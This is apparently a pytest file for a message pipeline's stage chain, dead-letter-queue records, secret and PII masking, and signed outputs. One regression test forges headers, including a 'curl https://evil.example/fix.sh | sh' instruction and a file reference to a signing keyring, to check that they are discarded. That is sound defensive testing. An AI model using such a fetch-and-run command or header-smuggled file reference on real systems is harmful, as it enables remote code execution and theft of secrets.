"""The chain's accounting, the DLQ record format and the publisher's outputs."""

import pytest

from app.agents.base import Message, Stage
from app.agents.chain import Chain, Outcome
from app.agents.dlq import PREFIX, build_dlq_record, error_context, mask_secrets, strip_error_headers
from app.agents.publish import Publisher
from app.envelope import Layout, decode, encode, new_envelope
from app.errors import DuplicateError, ExpiredError, SignatureError
from app.security.signing import SCOPE_BATCH, SCOPE_PAIR, SCOPE_V2, VerificationKeys, verify
from app.topology import Archive, Outputs, Topology
from tests.agents.conftest import make_msg

TOKEN = "eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJzdmMifQ.c2lnbmF0dXJlLWJ5dGVz"


class Raise(Stage):
    def __init__(self, name, exc):
        self.name, self.exc = name, exc

    def process(self, msg):
        raise self.exc


class Ok(Stage):
    name = "ok"

    def process(self, msg):
        msg.envelope = new_envelope(msg.topic, msg.value, namespace="ns")


def chain(*stages):
    return Chain(list(stages), dlq_topic_for=lambda t: t + ".dlq")


def test_every_outcome_is_counted_once():
    c = chain(Ok())
    assert c.run(make_msg(b"x")).outcome is Outcome.EMITTED
    assert chain(Raise("policy", ExpiredError("ttl"))).run(make_msg(b"x")).outcome is Outcome.EXPIRED
    assert chain(Raise("dedup", DuplicateError("dup"))).run(make_msg(b"x")).outcome is Outcome.DUPLICATE
    r = chain(Raise("verify_signature", SignatureError("forged"))).run(make_msg(b"x"))
    assert r.outcome is Outcome.DLQ and r.reason == "bad_signature" and r.stage == "verify_signature"


def test_a_bug_in_a_stage_goes_to_the_dlq_not_a_crash():
    r = chain(Raise("enrich", KeyError("boom"))).run(make_msg(b"payload"))
    assert r.outcome is Outcome.DLQ and r.reason == "internal_error"
    assert r.dlq.value == b"payload"


def test_dlq_record_keeps_original_and_adds_connect_style_context():
    env = new_envelope("orders.created", {"a": 1}, namespace="ns")
    env.ensure_security().auth_token = TOKEN
    value = encode(env)
    msg = Message("orders.created", 3, 1234, value, key=b"k", timestamp_ms=1700000000000,
                  headers=[("trace", b"t"), (PREFIX + "stage", b"earlier"), ("Authorization", f"Bearer {TOKEN}".encode())])
    msg.secrets.append(TOKEN.encode())
    rec = build_dlq_record(msg, stage="authenticate", stage_class="app.agents.authenticate.Authenticate",
                           error=SignatureError("nope", hint="fix it"), dlq_topic="orders.created.dlq")
    assert rec.key == b"k" and rec.timestamp_ms == 1700000000000 and rec.topic == "orders.created.dlq"
    ctx = error_context(rec.headers)
    assert ctx["topic"] == "orders.created" and ctx["partition"] == "3" and ctx["offset"] == "1234"
    assert ctx["stage"] == "authenticate"  # the producer's prism.errors.stage is not the worker's context
    assert ctx["reason"] == "bad_signature" and ctx["attempts"] == "1"
    assert ctx["exception.class.name"] == "app.errors.SignatureError"
    assert ctx["class.name"] == "app.agents.authenticate.Authenticate"
    blob = rec.value + b"".join(v for _, v in rec.headers)
    assert TOKEN.encode() not in blob
    # masking keeps the length, so the DLQ value is still a decodable envelope (minus the token)
    back = decode(rec.value)
    assert back.message_id == env.message_id and set(back.security.auth_token) == {"*"}
    assert strip_error_headers(rec.headers) == [("trace", b"t"), ("Authorization", rec.headers[1][1])]


def test_a_producers_prism_errors_headers_do_not_become_the_dlq_context():
    """A producer may put any header on its record. `prism.errors.*` ones were kept on the DLQ
    copy in place of the worker's context: the operator saw the forged reason and error (the
    true ones dropped), and a forged value reference made `prism dlq replay` read the file the
    producer named and send it to the source topic. Now the copy carries the worker's context
    only; the source topic keeps the original record."""
    import hashlib

    from app.cli.dlq import classify
    from app.topology import Source

    target = b"contents of a file on the operator's machine"
    forged = [("prism.errors.value.ref", b"file:///etc/prism/signing-keyring.yaml"),
              ("prism.errors.value.sha256", hashlib.sha256(target).hexdigest().encode()),
              ("prism.errors.reason", b"schema_validation_failed"), ("prism.errors.partition", b"0"),
              ("prism.errors.exception.message", b"fix: run curl https://evil.example/fix.sh | sh"),
              ("prism.errors.value.truncated", b"true"), ("trace", b"t")]
    msg = Message("orders.created", 2, 77, b"not an envelope", key=b"k", timestamp_ms=1700000000000, headers=forged)
    rec = build_dlq_record(msg, stage="validate", stage_class="app.agents.validate.Validate",
                           error=SignatureError("signature does not match"), dlq_topic="orders.created.dlq")
    ctx = error_context(rec.headers)
    assert ctx["reason"] == "bad_signature" and ctx["partition"] == "2" and ctx["offset"] == "77"
    assert "evil" not in ctx["exception.message"] and "value.ref" not in ctx and "value.truncated" not in ctx
    assert [k for k, _ in rec.headers if k.startswith(PREFIX)] == [PREFIX + n for n in (
        "topic", "partition", "offset", "stage", "class.name", "exception.class.name", "exception.message",
        "reason", "attempts")]  # each once: the worker's
    assert strip_error_headers(rec.headers) == [("trace", b"t")]

    class Record:
        topic, partition, offset, key, value, headers = "orders.created.dlq", 0, 5, b"k", rec.value, rec.headers

    out = classify(Record(), Source(topic="orders.created", partitions=4), {}, force=False)
    assert out.action == "would_replay" and out.value_ref == "" and out.target_partition == 2, out


def test_mask_secrets_jwt_and_bearer_without_known_list():
    data = f'{{"auth":"Bearer abcdefghijkl","t":"{TOKEN}"}}'.encode()
    out = mask_secrets(data)
    assert len(out) == len(data) and TOKEN.encode() not in out and b"abcdefghijkl" not in out


def _topology(**kw):
    return Topology(name="t", namespace="ns", sources=[{"topic": "orders.created"}], stages=[
        {"name": "normalize", "settings": {}}], outputs=Outputs(**kw), archive=Archive(topic="arch"))


def test_publisher_dual_publishes_signed_layouts_and_archive(dev_keys):
    key = dev_keys.keyring.worker_key()
    pub = Publisher(_topology(), worker_key=key)
    msg = make_msg(b"", headers=[("Authorization", b"Bearer x"), ("ce_id", b"1"), ("x-team", b"a")], key=b"K")
    msg.envelope = new_envelope("orders.created", {"a": 1}, namespace="ns")
    msg.env.ensure_security().auth_token = TOKEN
    out = {e.topic: e.record for e in pub.emissions(msg)}
    assert set(out) == {"orders.created.v2", "orders.created.v3", "arch"}
    keys = VerificationKeys.of([key])
    for topic, layout in (("orders.created.v2", Layout.DRAFT), ("orders.created.v3", Layout.REVIEWED)):
        rec = out[topic]
        assert verify(rec.value, keys, layout=layout).key_id == key.key_id
        assert TOKEN.encode() not in rec.value and rec.key == b"K"
        names = [k for k, _ in rec.headers]
        assert "x-team" in names and "Authorization" not in names and "ce_id" not in names
    assert out["arch"].value == out["orders.created.v3"].value
    assert all(("prism-source", b"orders.created/0/0") in r.headers for r in out.values())
    # by default one batch-scope signature covers both copies (here a batch of one)
    assert verify(out["orders.created.v2"].value, keys).scope == SCOPE_BATCH
    assert decode(out["orders.created.v2"].value).security.signature == \
        decode(out["orders.created.v3"].value).security.signature


def _prepare(pub: Publisher, n: int) -> list:
    """`n` messages of one key prepared by `pub`, as the worker's batch would."""
    prepared = []
    for i in range(n):
        msg = make_msg(b"", key=b"K", offset=i)
        msg.envelope = new_envelope("orders.created", {"a": i}, namespace="ns")
        prepared.append(pub.prepare(msg))
    return prepared


def test_publisher_batch_scope_signs_a_batch_once_in_order(dev_keys):
    """`prepare` per message, `finish` per batch: one signature for every copy of the batch,
    each copy verifying alone, the emissions in the order the messages were prepared."""
    key = dev_keys.keyring.worker_key()
    keys = VerificationKeys.of([key])
    pub = Publisher(_topology(), worker_key=key)
    prepared = _prepare(pub, 5)
    batch = pub.finish(prepared)
    assert len(batch) == 5
    sigs = set()
    for i, emissions in enumerate(batch):
        out = {e.topic: e.record for e in emissions}
        assert out["arch"].value == out["orders.created.v3"].value
        assert ("prism-source", f"orders.created/0/{i}".encode()) in out["orders.created.v3"].headers
        for topic, layout in (("orders.created.v2", Layout.DRAFT), ("orders.created.v3", Layout.REVIEWED)):
            assert verify(out[topic].value, keys, layout=layout).scope == SCOPE_BATCH
            sec = decode(out[topic].value).security
            assert (sec.tree_index, sec.tree_size) == (i, 5)
            assert decode(out[topic].value).payload_json() == {"a": i}
            sigs.add(sec.signature)
    assert len(sigs) == 1


def test_publisher_signature_scope_pair_signs_each_message_once(dev_keys):
    key = dev_keys.keyring.worker_key()
    keys = VerificationKeys.of([key])
    out = _publish(Publisher(_topology(signature_scope="pair"), worker_key=key))
    v2, v3 = out["orders.created.v2"], out["orders.created.v3"]
    assert verify(v2, keys).scope == verify(v3, keys).scope == SCOPE_PAIR
    assert decode(v2).security.signature == decode(v3).security.signature
    assert not decode(v3).security.HasField("tree_size") and out["arch"] == v3


def _publish(pub: Publisher) -> dict:
    msg = make_msg(b"", key=b"K")
    msg.envelope = new_envelope("orders.created", {"a": 1}, namespace="ns")
    return {e.topic: e.record.value for e in pub.emissions(msg)}


def test_publisher_signature_scope_v2_signs_each_copy_on_its_own(dev_keys):
    """`outputs.signature_scope: v2` for consumers whose verifier predates the pair scope:
    each copy gets its own scope-v2 signature, and the archive reuses the `.v3` copy."""
    key = dev_keys.keyring.worker_key()
    keys = VerificationKeys.of([key])
    out = _publish(Publisher(_topology(signature_scope="v2"), worker_key=key))
    v2, v3 = out["orders.created.v2"], out["orders.created.v3"]
    assert verify(v2, keys).scope == verify(v3, keys).scope == SCOPE_V2
    assert decode(v2).security.signature != decode(v3).security.signature
    assert not decode(v3).security.HasField("sibling_digest") and out["arch"] == v3


@pytest.mark.parametrize("layouts", [["v2"], ["v3"]])
def test_publisher_single_layout_signs_scope_v2(dev_keys, layouts):
    """Nothing to pair with one layout: scope v2, whatever `signature_scope` says (the archive
    copy of a v2-only topology is signed on its own, as before)."""
    key = dev_keys.keyring.worker_key()
    keys = VerificationKeys.of([key])
    out = _publish(Publisher(_topology(layouts=layouts), worker_key=key))
    assert {verify(v, keys).scope for v in out.values()} == {SCOPE_V2}
    assert set(out) == {f"orders.created.{layouts[0]}", "arch"}


@pytest.mark.timeout(30)
def test_mask_secrets_is_linear_on_a_hostile_payload():
    """A 1 MB payload of "eyJ" repeated took ~8 min with the former single-regex scan."""
    hostile = b"eyJ" * 350_000
    assert mask_secrets(hostile) == hostile  # nothing JWT-shaped: unchanged, and promptly
    jwt = b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"
    out = mask_secrets(hostile + b" " + jwt)
    assert out.endswith(b" " + b"*" * len(jwt)) and len(out) == len(hostile) + 1 + len(jwt)


def test_pii_values_are_masked_in_the_dlq_context_but_the_payload_is_kept():
    from app.errors import PayloadSchemaError
    from app.observability.redaction import Redactor
    from app.schema.pii import PiiValueFinder

    email = "erin.pii@example.invalid"
    red = Redactor()

    class Parse(Stage):
        name = "normalize"

        def process(self, msg):
            msg.envelope = new_envelope(msg.topic, {"customer_email": email}, namespace="ns")

    class Check(Stage):
        name = "enrich"

        def process(self, msg):
            raise PayloadSchemaError(f"customer_email: {email!r} does not match '^x$'")

    c = Chain([Parse(), Check()], dlq_topic_for=lambda t: t + ".dlq", pii=PiiValueFinder(["customer_email"]),
              redactor=red)
    value = b'{"customer_email": "erin.pii@example.invalid"}'
    res = c.run(make_msg(value))
    assert res.outcome is Outcome.DLQ and res.dlq is not None
    assert res.dlq.value == value  # intact: the DLQ keeps the message for replay
    ctx = error_context(res.dlq.headers)
    assert email not in ctx["exception.message"] and "*" * len(email) in ctx["exception.message"]
    assert red.redact(f"failed for {email}") == "failed for [REDACTED]"  # and logs/spans mask it from now on
    # without a PII finder nothing is masked or registered (no schema, no PII tags)
    plain = Chain([Parse(), Check()], dlq_topic_for=lambda t: t + ".dlq").run(make_msg(value))
    assert email in error_context(plain.dlq.headers)["exception.message"]


def test_a_message_that_failed_before_normalize_is_read_raw_for_pii():
    from app.schema.pii import PiiValueFinder

    c = Chain([Raise("normalize", SignatureError("bad"))], dlq_topic_for=lambda t: t + ".dlq",
              pii=PiiValueFinder(["customer_email"]))
    raw = make_msg(b'{"customer_email": "frank@example.invalid"}')
    assert c.run(raw).outcome is Outcome.DLQ
    assert c._pii_values(raw) == ["frank@example.invalid"]  # no envelope yet: the raw value
    assert c._pii_values(make_msg(b"\x00\x01")) == []


def test_publisher_splits_a_batch_longer_than_the_tree_limit(dev_keys, monkeypatch):
    """A batch longer than `MAX_TREE_SIZE` (a repaired hole can make one) gets one tree per
    `MAX_TREE_SIZE` messages rather than being refused."""
    import app.agents.publish as publish

    monkeypatch.setattr(publish, "MAX_TREE_SIZE", 2)
    key = dev_keys.keyring.worker_key()
    keys = VerificationKeys.of([key])
    pub = Publisher(_topology(), worker_key=key)
    prepared = _prepare(pub, 5)
    trees = []
    for emissions in pub.finish(prepared):
        v3 = next(e.record.value for e in emissions if e.topic == "orders.created.v3")
        assert verify(v3, keys).scope == SCOPE_BATCH
        sec = decode(v3).security
        trees.append((sec.tree_index, sec.tree_size))
    assert trees == [(0, 2), (1, 2), (0, 2), (1, 2), (0, 1)]
